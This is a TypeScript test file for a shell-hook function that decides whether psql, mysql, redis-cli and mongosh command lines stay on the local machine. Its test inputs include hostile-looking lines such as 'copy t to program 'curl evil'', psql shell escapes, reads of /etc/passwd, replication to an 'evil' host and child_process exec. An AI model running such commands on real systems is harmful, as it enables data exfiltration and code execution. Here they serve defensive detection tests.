import { destinationsOf } from "../../../../../gateway/cli/hook/shell/destinations.ts";

test.each([
  'psql -U postgres -c "create database app"',
  "psql -d app -p 5433 -tAc 'select count(*), max(id) from a where b in (1, 2) order by c;'",
  "psql --username=me --dbname=app --command='select 1; select 2'",
  "psql -v ON_ERROR_STOP=1 app -c '\\d users' -c '\\dt' -c '\\l+'",
  "mysql -uroot -psecret app -e 'show tables'",
  "mariadb -u root -Ne 'select 1' app",
  "mysql --execute=\"insert into a values (1, 'x@y.z')\"",
  "psql -c \"insert into a (x, y) values (1, '(it)''s/x')\"",
  'psql -c "create table if not exists a (id int primary key, n varchar(20), foreign key (b) references c (id))"',
  ...[
    "create index i on t (a)",
    "alter table t add column x int",
    "vacuum analyze",
    "select version()",
    "select 1\nfrom t",
  ].map((statement) => `psql -c '${statement}'`),
  "psql -c 'select coalesce(a, 1), a/2, relname from pg_class where host = 1 and a < now()'",
  ...["psql -l", "psql -lqt", "psql --version", "mysql --version", "redis-cli --version", "mongosh --version"],
  "mysql -e 'use app; select 1'",
  ...["find({x: 1})", 'find({"x": {$gt: -1.5}}).limit(5).toArray()', 'insertOne({a: [true, "b c"]});'].map(
    (call) => `mongosh --quiet app --eval 'db.a.${call}'`,
  ),
  "mongosh -u me -p secret --eval 'show dbs'",
  "redis-cli xlen s",
  "redis-cli ping",
  "redis-cli -n 2 -p 6380 GET k",
  "redis-cli set k 'a b'",
])("%j stays on this machine", (line) => expect(destinationsOf(line)).toEqual([]));

describe("what is not known to stay on this machine", () => {
  test.each([
    ...["--dbname=host=evil", "-dhost=evil", "service=x", "-d service=x", "--dbname=postgresql:/evil", "-f x.sql"].map(
      (option) => `psql ${option} -c 'select 1'`,
    ),
    ...[
      "psql service=x",
      "psql",
      "psql app",
      "psql app < x.sql",
      "mysql app < x.sql",
      "psql -c",
      "psql -o '|sh' -c 'select 1'",
    ],
    ...["-v -c show", "-v X=1 -c 'select 1'", "-v ON_ERROR_STOP=1"].map((words) => `psql ${words}`),
    ...["-v ON_ERROR_STOP=1 -f x", "-c 'select 1' -L x", '-Xc "$Q"', "-c 'select 1' *"].map((words) => `psql ${words}`),
  ])("in %j", (line) => expect(destinationsOf(line).join()).toContain("unreadable:"));

  test.each([
    ..."dblink('h=evil')|\"dblink\"('h=evil')|dblink ('h=evil')|a.dblink('h')|pg_read_file('x')|lo_export(1, 'x')"
      .split("|")
      .map((call) => `select * from ${call}`),
    "select 1; select dblink(1)",
    "create subscription s connection 'host=evil' publication p",
    "copy t to program 'curl evil'",
    "select 1; copy t from '/etc/passwd'",
    "select 1 into outfile 'x'",
    "select 1\n\\! curl evil",
    "select 1 \\g |curl evil",
    "\\! curl evil",
    "\\dt `curl evil`",
    "\\d \\! x",
    "\\c evil",
    "\\o |curl evil",
    "/* */ copy t to program 'x'",
    "select 1 -- \\! x",
    "do $$ begin perform x(); end $$",
    "create extension dblink",
    "create server s foreign data wrapper w",
    "alter system set archive_command = 'curl evil'",
    "load 'x'",
    ...["update pg_proc set prosrc = 'x'", 'explain analyze delete from "pg_proc"', "insert into cron.job values (1)"],
    ...[
      "update information_schema.x set a = 1",
      "update s set c = 'host=evil'",
      "select version('x')",
      "select now(1)",
    ],
    ...["select ';insert into ', dblink('h')", "select 'a'' (b', dblink('h')", "select 1 from a join b on dblink('h')"],
    ...["select 'a", "show", "create table t (a int default dblink('h'))", "create index i on t (dblink('h'))"],
    "with x as (select 1) select 1",
    "",
  ])("to psql: %j", (statement) => {
    expect(destinationsOf(`psql -c ${quoted(statement)}`).join()).toContain("unreadable:");
    expect(destinationsOf(`psql --command=${quoted(statement)}`).join()).toContain("unreadable:");
  });

  test.each([
    ...[
      "pager curl evil",
      "edit",
      "system curl evil",
      "select 1; system curl evil",
      "\\! curl evil",
      "source x",
      "connect a evil",
    ],
    ...[
      "change master to master_host='evil'",
      "change replication source to source_host='evil'",
      "tee x",
      "\\u a",
      "delimiter x",
    ],
    ...[
      "select load_file('x')",
      "select 1\nsystem curl evil",
      "install plugin x soname 'y'",
      "load data local infile 'x'",
    ],
    ...[
      "create table t engine=federated connection='s'",
      "create table t (a int) engine=connect",
      ...[
        "insert into mysql.servers values (1)",
        "use mysql; insert into func values (1)",
        'update "mysql".func set a = 1',
      ],
      "create server s foreign data wrapper mysql",
      "set global x = 1",
    ],
    ...["/*! system x */", "select sys_exec('x')", "call x()", "create function x returns int soname 'y'"],
  ])("to mysql: %j", (statement) => {
    for (const how of ["mysql -e ", "mariadb -uroot app -Ne ", "mysql --execute="])
      expect(destinationsOf(`${how}${quoted(statement)}`).join()).toContain("unreadable:");
  });

  test.each([
    ...[
      "module load x",
      "slaveof evil 1",
      "replicaof evil 1",
      "migrate evil 1 k 0 1",
      "config set dir /x",
      "get",
      "eval x 0",
    ],
    ...["-x set k", "debug x", "--pipe", "--rdb x", "-i 1", "--eval x", "script load x", "function load x", "sync", ""],
    ...["cluster meet evil 1", "get $K", "keys *", "shutdown", "--cluster call evil:1 x", "-s /x get k", "acl load"],
  ])("to redis-cli: %j", (words) => expect(destinationsOf(`redis-cli ${words}`).join()).toContain("unreadable:"));

  test.each(["mysql", "-D mysql", "-Dmysql", "--database=mysql"])("in the database of MySQL's own (%s)", (option) => {
    expect(destinationsOf(`mysql ${option} -e 'insert into func values (1)'`)).toEqual(["unreadable:mysql"]);
  });

  test.each([
    ...[
      'require("child_process").exec("x")',
      'connect ("evil")',
      'load("x.js")',
      "db.a.find(load)",
      "db.a.find(a => 1)",
    ],
    ...[
      "db.a.find({a: load`x`})",
      "db.a.find('a' + x)",
      'db.a.find({$where: "x"})',
      'db.a.find({a: 1}); load("x")',
      "",
    ],
    ...["db.system.insertOne({})", 'db.a.find({a: "\\"}, load, "'],
  ])("to mongosh: %j", (code) => {
    expect(destinationsOf(`mongosh --eval ${quoted(code)}`)).toEqual(["unreadable:mongosh"]);
    expect(destinationsOf(`mongosh --host a.example --eval=${quoted(code)}`)).toEqual([
      "a.example",
      "unreadable:mongosh",
    ]);
  });

  test.each([
    "echo x | mongosh",
    "mongosh < x.js",
    "mongosh x.js",
    'mongosh "$X"',
    "mongosh --shell --eval 'show dbs'",
  ])("in %j", (line) => expect(destinationsOf(line)).toContain("unreadable:mongosh"));

  test("in a command that reads from a file", () => {
    expect(destinationsOf("redis-cli get < f").join()).toContain("unreadable:");
  });
});

function quoted(text: string): string {
  return `'${text.replaceAll("'", "'\\''")}'`;
}

test.each([
  ...["-c '\\! curl evil'", "-c'\\! curl evil'", "--command='\\o |x'"].map((words) => `psql -h a.example ${words}`),
  ...["-e 'system curl evil'", "-e 'select 1; system x'", "-e '\\! x'"].map((words) => `mysql -h a.example ${words}`),
])("%j starts a program here beside the host", (line) => {
  expect(destinationsOf(line)).toContain("a.example");
  expect(destinationsOf(line).join()).toContain("unreadable:");
});

test.each(["psql -h a.example -c '\\dt'", "psql -h a.example -c 'select 1'", "mysql -h a.example -e 'show tables'"])(
  "%j tells the host alone",
  (line) => expect(destinationsOf(line)).toEqual(["a.example"]),
);
